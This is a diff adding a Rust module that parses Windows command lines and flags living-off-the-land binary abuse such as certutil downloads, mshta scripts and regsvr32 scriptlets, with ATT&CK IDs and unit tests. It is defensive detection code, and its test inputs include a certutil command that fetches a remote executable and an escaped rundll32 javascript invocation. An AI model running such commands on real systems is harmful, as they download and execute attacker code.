@@ -0,0 +1,376 @@
+use serde::Serialize;
+
+pub fn tokenize(command_line: &str) -> Vec<String> {
+    let mut args = Vec::new();
+    let mut current = String::new();
+    let mut in_token = false;
+    let mut in_quotes = false;
+    let mut backslashes = 0;
+
+    let mut chars = command_line.chars().peekable();
+    while let Some(c) = chars.next() {
+        match c {
+            '\\' => {
+                backslashes += 1;
+                in_token = true;
+                continue;
+            }
+            '"' => {
+                current.extend(std::iter::repeat_n('\\', backslashes / 2));
+                if backslashes % 2 == 1 {
+                    current.push('"');
+                } else if in_quotes && chars.peek() == Some(&'"') {
+                    chars.next();
+                    current.push('"');
+                } else {
+                    in_quotes = !in_quotes;
+                }
+                in_token = true;
+            }
+            c if c.is_whitespace() && !in_quotes => {
+                current.extend(std::iter::repeat_n('\\', backslashes));
+                if in_token {
+                    args.push(std::mem::take(&mut current));
+                    in_token = false;
+                }
+            }
+            c => {
+                current.extend(std::iter::repeat_n('\\', backslashes));
+                current.push(c);
+                in_token = true;
+            }
+        }
+        backslashes = 0;
+    }
+
+    current.extend(std::iter::repeat_n('\\', backslashes));
+    if in_token {
+        args.push(current);
+    }
+
+    args
+}
+
+pub fn program_name(arg: &str) -> String {
+    let name = arg.rsplit(['\\', '/']).next().unwrap_or(arg).to_lowercase();
+    match name.strip_suffix(".exe") {
+        Some(stripped) => stripped.to_string(),
+        None => name,
+    }
+}
+
+pub fn unescape_cmd(command_line: &str) -> String {
+    let mut unescaped = String::with_capacity(command_line.len());
+    let mut in_quotes = false;
+    let mut chars = command_line.chars();
+    while let Some(c) = chars.next() {
+        match c {
+            '"' => {
+                in_quotes = !in_quotes;
+                unescaped.push(c);
+            }
+            '^' if !in_quotes => unescaped.extend(chars.next()),
+            c => unescaped.push(c),
+        }
+    }
+    unescaped
+}
+
+fn is_switch(arg: &str) -> bool {
+    let name = arg.split(':').next().unwrap_or(arg);
+    !name.is_empty() && !name.contains(['/', '\\'])
+}
+
+pub fn normalize_arg(arg: &str) -> String {
+    let arg: String = arg
+        .trim_matches(['"', '\''])
+        .chars()
+        .map(|c| match c {
+            '\u{2010}'..='\u{2015}' | '\u{2212}' => '-',
+            c => c,
+        })
+        .collect::<String>()
+        .to_lowercase();
+    match arg.strip_prefix('/') {
+        Some(switch) if is_switch(switch) => {
+            format!("-{}", switch)
+        }
+        _ => arg,
+    }
+}
+
+pub fn normalized_args(command_line: &str) -> Vec<String> {
+    tokenize(&unescape_cmd(command_line))
+        .iter()
+        .map(|a| normalize_arg(a))
+        .collect()
+}
+
+#[derive(Serialize, Debug, Clone, PartialEq, Eq)]
+pub struct LolbinMatch {
+    pub binary: String,
+    pub name: &'static str,
+    pub description: &'static str,
+    pub technique: &'static str,
+}
+
+struct LolbinPattern {
+    binaries: &'static [&'static str],
+    name: &'static str,
+    description: &'static str,
+    technique: &'static str,
+    matches: fn(&[String], &str) -> bool,
+}
+
+fn has(args: &[String], switches: &[&str]) -> bool {
+    args.iter().skip(1).any(|a| {
+        switches
+            .iter()
+            .any(|s| a == s || a.starts_with(&format!("{}:", s)))
+    })
+}
+
+fn has_url(args: &[String]) -> bool {
+    args.iter()
+        .skip(1)
+        .any(|a| a.contains("http://") || a.contains("https://") || a.contains("ftp://"))
+}
+
+const LOLBIN_PATTERNS: &[LolbinPattern] = &[
+    LolbinPattern {
+        binaries: &["rundll32"],
+        name: "rundll32_script",
+        description: "rundll32 executing inline JavaScript or VBScript",
+        technique: "T1218.011",
+        matches: |_, lower| lower.contains("javascript:") || lower.contains("vbscript:"),
+    },
+    LolbinPattern {
+        binaries: &["rundll32"],
+        name: "rundll32_url_handler",
+        description: "rundll32 launching content through a URL or shell handler export",
+        technique: "T1218.011",
+        matches: |_, lower| {
+            ["openurl", "fileprotocolhandler", "shellexec_rundll"]
+                .iter()
+                .any(|e| lower.contains(e))
+        },
+    },
+    LolbinPattern {
+        binaries: &["certutil"],
+        name: "certutil_download",
+        description: "certutil used to download a remote file",
+        technique: "T1105",
+        matches: |args, _| has(args, &["-urlcache", "-verifyctl"]) || has_url(args),
+    },
+    LolbinPattern {
+        binaries: &["certutil"],
+        name: "certutil_decode",
+        description: "certutil used to decode or encode a payload",
+        technique: "T1140",
+        matches: |args, _| has(args, &["-decode", "-decodehex", "-encode"]),
+    },
+    LolbinPattern {
+        binaries: &["mshta"],
+        name: "mshta_remote_or_inline",
+        description: "mshta executing a remote HTA or inline script",
+        technique: "T1218.005",
+        matches: |args, lower| {
+            has_url(args) || lower.contains("javascript:") || lower.contains("vbscript:")
+        },
+    },
+    LolbinPattern {
+        binaries: &["regsvr32"],
+        name: "regsvr32_scriptlet",
+        description: "regsvr32 loading a COM scriptlet (Squiblydoo)",
+        technique: "T1218.010",
+        matches: |args, lower| has(args, &["-i"]) && (has_url(args) || lower.contains("scrobj")),
+    },
+    LolbinPattern {
+        binaries: &["bitsadmin"],
+        name: "bitsadmin_transfer",
+        description: "bitsadmin used to transfer a file",
+        technique: "T1197",
+        matches: |args, _| has(args, &["-transfer", "-addfile", "-setnotifycmdline"]),
+    },
+    LolbinPattern {
+        binaries: &["msiexec"],
+        name: "msiexec_remote_package",
+        description: "msiexec installing a package from a remote URL",
+        technique: "T1218.007",
+        matches: |args, _| has_url(args),
+    },
+    LolbinPattern {
+        binaries: &["wmic"],
+        name: "wmic_process_create",
+        description: "wmic used to create a process",
+        technique: "T1047",
+        matches: |args, _| {
+            args.iter().any(|a| a == "process")
+                && args.iter().any(|a| a == "call")
+                && args.iter().any(|a| a == "create")
+        },
+    },
+    LolbinPattern {
+        binaries: &["wmic"],
+        name: "wmic_xsl_script",
+        description: "wmic executing an XSL stylesheet script",
+        technique: "T1220",
+        matches: |args, _| {
+            args.iter()
+                .any(|a| a.starts_with("-format:") && !a.ends_with(":list"))
+        },
+    },
+    LolbinPattern {
+        binaries: &["cmstp"],
+        name: "cmstp_inf",
+        description: "cmstp installing a connection profile from an INF file",
+        technique: "T1218.003",
+        matches: |args, _| has(args, &["-s", "-ni", "-au"]),
+    },
+    LolbinPattern {
+        binaries: &["installutil"],
+        name: "installutil_uninstall",
+        description: "InstallUtil executing an assembly through its uninstaller",
+        technique: "T1218.004",
+        matches: |args, _| has(args, &["-u", "-logfile"]),
+    },
+    LolbinPattern {
+        binaries: &["regasm", "regsvcs"],
+        name: "regasm_execution",
+        description: "RegAsm or RegSvcs executing a .NET assembly",
+        technique: "T1218.009",
+        matches: |args, _| args.iter().skip(1).any(|a| a.ends_with(".dll")),
+    },
+    LolbinPattern {
+        binaries: &["msbuild"],
+        name: "msbuild_inline_task",
+        description: "MSBuild compiling and running an inline task",
+        technique: "T1127.001",
+        matches: |args, _| {
+            args.iter().skip(1).any(|a| {
+                [".xml", ".csproj", ".proj", ".targets", ".txt"]
+                    .iter()
+                    .any(|e| a.ends_with(e))
+            })
+        },
+    },
+    LolbinPattern {
+        binaries: &["odbcconf"],
+        name: "odbcconf_regsvr",
+        description: "odbcconf loading a DLL through REGSVR",
+        technique: "T1218.008",
+        matches: |_, lower| lower.contains("regsvr"),
+    },
+    LolbinPattern {
+        binaries: &["forfiles"],
+        name: "forfiles_indirect_execution",
+        description: "forfiles used to run a command indirectly",
+        technique: "T1202",
+        matches: |args, _| has(args, &["-c"]),
+    },
+    LolbinPattern {
+        binaries: &["mavinject"],
+        name: "mavinject_injection",
+        description: "mavinject injecting a DLL into a running process",
+        technique: "T1218.013",
+        matches: |args, _| has(args, &["-injectrunning"]),
+    },
+    LolbinPattern {
+        binaries: &["hh"],
+        name: "hh_remote_chm",
+        description: "HTML Help opening a remote compiled help file",
+        technique: "T1218.001",
+        matches: |args, _| has_url(args),
+    },
+    LolbinPattern {
+        binaries: &["esentutl"],
+        name: "esentutl_vss_copy",
+        description: "esentutl copying a locked file through the volume shadow service",
+        technique: "T1003.003",
+        matches: |args, _| has(args, &["-vss"]),
+    },
+];
+
+pub fn match_lolbins(command_line: &str) -> Vec<LolbinMatch> {
+    let args = normalized_args(command_line);
+    let Some(binary) = args.first().map(|a| program_name(a)) else {
+        return Vec::new();
+    };
+    let lower = unescape_cmd(command_line).to_lowercase();
+    LOLBIN_PATTERNS
+        .iter()
+        .filter(|p| p.binaries.contains(&binary.as_str()) && (p.matches)(&args, &lower))
+        .map(|p| LolbinMatch {
+            binary: binary.clone(),
+            name: p.name,
+            description: p.description,
+            technique: p.technique,
+        })
+        .collect()
+}
+
+#[cfg(test)]
+mod tests {
+    use super::*;
+
+    #[test]
+    fn tokenize_splits_on_unquoted_whitespace() {
+        assert_eq!(tokenize("  cmd.exe   /c\tdir  "), ["cmd.exe", "/c", "dir"]);
+        assert_eq!(
+            tokenize(r#""C:\Program Files\app.exe" --name "a b"c"#),
+            [r"C:\Program Files\app.exe", "--name", "a bc"]
+        );
+        assert!(tokenize("   ").is_empty());
+    }
+
+    #[test]
+    fn tokenize_handles_escaped_quotes_and_backslashes() {
+        assert_eq!(tokenize(r#"a\"b"#), [r#"a"b"#]);
+        assert_eq!(tokenize(r#""say ""hi""""#), [r#"say "hi""#]);
+        assert_eq!(tokenize(r#"a\\"b c""#), [r"a\b c"]);
+        assert_eq!(tokenize(r#"a\\\"b"#), [r#"a\"b"#]);
+        assert_eq!(tokenize(r"C:\dir\ next\\"), [r"C:\dir\", r"next\\"]);
+    }
+
+    #[test]
+    fn tokenize_keeps_empty_arguments() {
+        assert_eq!(tokenize(r#"app.exe "" x"#), ["app.exe", "", "x"]);
+        assert_eq!(tokenize(r#""""#), [""]);
+    }
+
+    #[test]
+    fn program_name_strips_path_case_and_extension() {
+        assert_eq!(
+            program_name(r"C:\WINDOWS\System32\CertUtil.EXE"),
+            "certutil"
+        );
+        assert_eq!(program_name("/usr/bin/Python3"), "python3");
+        assert_eq!(program_name("rundll32"), "rundll32");
+        assert_eq!(program_name(r"C:\tools\app.exe.bak"), "app.exe.bak");
+    }
+
+    #[test]
+    fn normalize_arg_folds_mixed_case_switch_prefixes() {
+        assert_eq!(normalize_arg("/URLCache"), "-urlcache");
+        assert_eq!(normalize_arg("-UrlCache"), "-urlcache");
+        assert_eq!(normalize_arg("\u{2013}Decode"), "-decode");
+        assert_eq!(normalize_arg("/tmp/payload"), "/tmp/payload");
+        assert_eq!(normalize_arg("'Quoted'"), "quoted");
+    }
+
+    #[test]
+    fn lolbins_match_regardless_of_case_and_escaping() {
+        let matches = match_lolbins(
+            r#""C:\Windows\System32\CERTUTIL.exe" /URLCache -SPLIT -f http://x/a.exe a.exe"#,
+        );
+        assert_eq!(matches.len(), 1);
+        assert_eq!(matches[0].binary, "certutil");
+        assert_eq!(matches[0].name, "certutil_download");
+        assert_eq!(
+            match_lolbins(r"RunDll32.EXE jav^ascript:alert(1)")[0].name,
+            "rundll32_script"
+        );
+        assert!(match_lolbins("certutil -hashfile a.exe").is_empty());
+        assert!(match_lolbins("").is_empty());
+    }
+}